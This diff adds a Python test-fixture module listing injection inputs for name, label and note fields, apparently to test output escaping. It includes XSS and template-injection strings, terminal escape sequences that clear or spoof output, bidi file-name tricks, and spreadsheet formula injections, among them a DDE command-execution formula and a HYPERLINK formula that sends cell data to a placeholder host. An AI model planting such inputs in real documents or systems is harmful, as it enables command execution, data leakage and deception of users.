@@ -1,0 +1,55 @@
+"""What a name, a label or a note may hold to become more than text: markup, links, formulas, control and bidirectional characters."""
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "' onmouseover='alert(1)",
+    "</script><script>alert(1)</script>",
+    "</title></style><!--",
+    "{{ 7 * 7 }}{% raw %}",
+    "javascript:alert(1)",
+    "a | b\n| c |",
+    "[click](https://example.invalid) ![x](https://example.invalid/x.png)",
+    "`code` **bold** <br> # head",
+    "\x1b[31mred\x1b]0;title\x07\x9b2J",
+    "abc\u202egnp.exe\u2066\u200b",
+    "a\u2028\u2029\x00\x7f\r\n\tz",
+    "${alert(1)} datum.constructor.constructor('x')()",
+    "A" * 5_000 + "<b>" + "]]>&lt;",
+]
+
+TERMINAL = [
+    "\x1b[2J\x1b[Hgone",
+    "\x1b]0;owned\x07",
+    "\x1b]8;;https://example.invalid\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b31mred",
+    "a\nNOTHING FOUND  in 1,000 images.",
+    "a\rNOTHING FOUND",
+    "abc\b\b\b\x7f",
+    "abc\u202egnp.exe\u2066\u200b",
+    "a\u2028b\u2029c",
+    "[link=https://example.invalid]click[/link]",
+    "[/x]",
+    "[bold red]BACKDOORED[/]",
+    ":smiling_face:",
+    "\ud800\ue000",
+    "A" * 5_000,
+]
+
+SPREADSHEET = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.invalid?"&A1,"click")',
+    'a",=1+1,"b',
+    "a\n=1+1",
+    "a\r\n=1+1,2",
+    "=\u202e1+1",
+    "\x1b]0;owned\x07=1",
+]
